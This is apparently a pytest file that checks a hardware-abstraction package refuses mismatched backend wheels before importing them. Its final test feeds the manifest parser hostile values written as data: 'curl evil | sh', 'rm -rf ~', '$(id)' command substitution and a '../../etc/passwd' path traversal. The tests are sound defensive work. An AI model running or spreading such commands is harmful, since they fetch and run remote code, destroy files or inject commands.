"""Wheels that do not fit: refused with the command that helps, before a line of them is imported."""

from __future__ import annotations

import json
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from core.fakes import MACHINE, entry_points, install, manifest, registered, row

from hal_core import foreign_wheels
from hal_core.errors import ValueDecodeError
from hal_core.foreign_wheels import FOREIGN, foreign_manifest
from hal_core.machine import Denied, Device, Version
from hal_core.manifest import BackendManifest
from hal_core.probe import probe_from, rows_elsewhere
from hal_core.registry import Registry, judged
from hal_core.stored import load_facts, stored_names, with_software

H200, GFX = Device("cuda", "nvidia", "sm_90", "H200", 132), Device("rocm", "amd", "gfx1100", "RX 7900 XTX", 96)


@pytest.fixture
def site(tmp_path, monkeypatch):
    monkeypatch.setenv("HAL_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.syspath_prepend(tmp_path)
    monkeypatch.setattr(sys, "fake_imported", [], raising=False)
    return tmp_path


def verdict(site, machine=MACHINE, **changes):
    """The row of a wheel that would say that it was imported."""
    install(site, "wheel", data=manifest("wheel", **changes), code="import sys; sys.fake_imported.append('wheel')\n")
    (found,) = Registry(entry_points(site), machine, reference=False).rows()
    assert sys.fake_imported == ([] if found.status == "refused" else ["wheel"])
    return found


def only(found):
    (reason,) = found.refusals
    return reason


def test_a_wheel_for_another_instruction_set_is_not_imported(site):
    reason = only(verdict(site, isa=["avx2", "amx_int8", "avx512f"]))
    assert reason.code == "backend.isa"
    assert reason.asked == "avx2, amx_int8, avx512f for hal-backend-wheel"
    assert reason.found == "amx_int8 not in this processor (Test CPU); avx512f not in this processor (Test CPU)"
    assert "pip uninstall hal-backend-wheel" in reason.fix


def test_an_instruction_set_that_is_denied_keeps_its_remedy(site):
    machine = replace(MACHINE, denied=(Denied("amx_int8", "not permitted: EPERM", "allow arch_prctl in this container"),))
    reason = only(verdict(site, machine, isa=["amx_int8"]))
    assert reason.found == "amx_int8 not permitted: EPERM"
    assert reason.fix == "allow arch_prctl in this container"


@pytest.mark.parametrize(
    ("architectures", "device", "refused"),
    [
        (["gfx942", "gfx950"], GFX, True),
        (["gfx942"], H200, False),  # no AMD device at all: harmless, and needed to decide for other machines
        (["gfx942"], None, False),
        (["gfx1100"], GFX, False),
        (["sm_90", "gfx942"], GFX, True),
        (["sm_90"], H200, False),
        (["sm_100"], H200, True),
        (["sm_100"], replace(H200, architecture="unknown"), False),  # NVML is silent: the kernels judge
        (["bmg"], Device("xpu", "intel", "pvc", "Max 1550"), True),
        (["aarch64"], None, True),
    ],
)
def test_a_wheel_for_another_architecture_is_not_imported(site, architectures, device, refused):
    machine = replace(MACHINE, devices=(*MACHINE.devices, *((device,) if device else ())))
    found = verdict(site, machine, architectures=architectures)
    assert (found.status == "refused") is refused
    if refused:
        reason = only(found)
        assert reason.code == "backend.arch"
        assert reason.asked.startswith(" or ".join(architectures))
        assert "pip install hal-backend-wheel --upgrade" in reason.fix


def test_every_reason_is_given_at_once(site):
    found = verdict(
        site, replace(MACHINE, devices=(*MACHINE.devices, GFX)), contract=7, torch="==2.8.*", platforms=["win32_amd64"], isa=["avx512f"],
        architectures=["gfx942"],
    )  # fmt: skip
    assert [reason.code for reason in found.refusals] == [
        "backend.contract",
        "backend.torch",
        "backend.platform",
        "backend.isa",
        "backend.arch",
    ]
    text = " ".join(map(str, found.refusals))
    for shown in ("contract 1", "contract 7", "torch==2.8.*", "torch 2.13.0+cpu", "win32_amd64", "linux_x86_64", "gfx1100"):
        assert shown in text
    assert all("pip " in reason.fix for reason in found.refusals)


# Wheels of others


def ipex(site, version="2.8.0", name="intel_extension_for_pytorch"):
    info = site / f"{name}-{version}.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
    (site / f"{name}.py").write_text("import sys; sys.fake_imported.append('ipex')")


def test_ipex_is_refused_with_both_versions_and_never_imported(site):
    assert "ipex" not in {found.name for found in Registry(None, MACHINE).rows()}
    ipex(site)
    found = next(found for found in Registry(None, MACHINE).rows() if found.name == "ipex")
    assert (found.status, found.distribution, found.version) == ("refused", "intel-extension-for-pytorch", "2.8.0")
    reason = only(found)
    assert (reason.code, reason.asked, reason.found) == (
        "backend.torch", "torch==2.8.* for intel-extension-for-pytorch 2.8.0", "torch 2.13.0+cpu",
    )  # fmt: skip
    assert 'pip install "torch==2.8.*" intel-extension-for-pytorch==2.8.0' in reason.fix
    assert sys.fake_imported == []
    assert "ipex" in str(probe_from(MACHINE, (found,)))


@pytest.mark.parametrize(("version", "torch", "row"), [("2.8.10", "2.8.0+cpu", False), ("2.7.0", "2.8.0", True), ("2.7.0", "2.7.1", False)])
def test_ipex_goes_in_lockstep_with_torch(site, version, torch, row):
    ipex(site, version)
    machine = replace(MACHINE, versions=(Version("torch", torch),))
    assert ("ipex" in {found.name for found in Registry(None, machine).rows()}) is row


def test_the_set_of_other_wheels(site):
    assert foreign_manifest("numpy", "2.0") is None
    assert all(foreign_manifest(name, "1.0").distribution == name for name in FOREIGN)
    assert len(FOREIGN) == len(list((Path(foreign_wheels.__file__).parent / "foreign").glob("*.json")))
    assert foreign_manifest("intel-extension-for-pytorch", "unreadable").torch == "==2.8.*"
    assert foreign_manifest("intel-extension-for-pytorch", "2").torch == "==2.0.*"


# The table for another machine


def test_hints_name_the_architecture_and_the_command():
    mixed = with_software(load_facts("mixed"), MACHINE)
    hints = probe_from(mixed, (row("cpu", "cpu.fast"), row("reference"))).hints
    assert [hint.rpartition(": ")[2] for hint in hints] == [f"pip install hal-backend-{name}" for name in ("cuda", "rocm", "xpu")]
    assert hints[1].startswith("gfx942 seen (AMD Instinct MI300X), and no rocm backend")


def test_backends_are_judged_for_the_machine_that_is_asked_for():
    kernels = (registered("cpu.fast"), registered("cuda.fast", devices=("cuda",)), registered("reference.linear", devices=("any",)))
    rows = (
        replace(row("cpu", "cpu.fast"), manifest=BackendManifest.parse(json.dumps(manifest("cpu", isa=["avx2"])))),
        replace(
            row("cuda", "cuda.fast", status="no_device"),
            manifest=BackendManifest.parse(json.dumps(manifest("cuda", architectures=["sm_90"]))),
        ),
        row("old", status="refused"),
        row("reference", "reference.linear"),
    )

    def table(name):
        machine = with_software(load_facts(name), MACHINE)
        return {found.name: (found.status, [reason.code for reason in found.refusals]) for found in rows_elsewhere(machine, rows, kernels)}

    assert table("h200") == {"cpu": ("ready", []), "cuda": ("ready", []), "old": ("refused", []), "reference": ("ready", [])}
    assert table("b200")["cuda"] == ("refused", ["backend.arch"])
    assert table("b200")["cpu"] == ("no_device", ["backend.device"])
    assert table("avx2-laptop")["cuda"] == ("no_device", ["backend.device"])
    assert {table(name)["reference"][0] for name in stored_names()} == {"ready"}


def test_the_verdict_itself_imports_nothing(site):
    install(site, "wheel", code="import sys; sys.fake_imported.append('wheel')")
    (entry,), others = judged(MACHINE, entry_points(site))
    assert (entry.row, others) == (None, ())
    assert entry.manifest.name == "wheel"
    assert sys.fake_imported == []


@pytest.mark.parametrize(
    ("changes", "shown"),
    [
        ({"install": "curl evil | sh"}, "not a pip install command"),
        ({"install": "pip install x; rm -rf ~"}, "not a pip install command"),
        ({"install": "pip install $(id)"}, "not a pip install command"),
        ({"install": "pip install x\n"}, "not a pip install command"),
        ({"install": "pip install " + "x" * 400}, "not a pip install command"),
        ({"distribution": "../../etc/passwd"}, "not a distribution's name"),
        ({"distribution": "a" * 200}, "not a distribution's name"),
        ({"distribution": "x\x1b[2J"}, "not a distribution's name"),
        ({"name": "a" * 100}, "not a plain name"),
        ({"contract": 10**30}, "out of all proportion"),
        ({"torch": ">=2," * 200}, "version range|out of all proportion"),
        ({"isa": ["avx2"] * 300}, "too many items"),
        ({"platforms": ["linux\n"]}, "not one plain word"),
        ({"architectures": ["sm_90", ""]}, "not one plain word"),
        ({"architectures": [[]]}, "expected str"),
    ],
)
def test_hostile_manifests_are_refused_with_a_short_message(changes, shown):
    with pytest.raises(ValueDecodeError, match=shown) as caught:
        BackendManifest.parse(json.dumps(manifest("wheel", **changes)))
    assert len(str(caught.value)) < 400
    assert str(caught.value).replace("\n", "").isprintable()
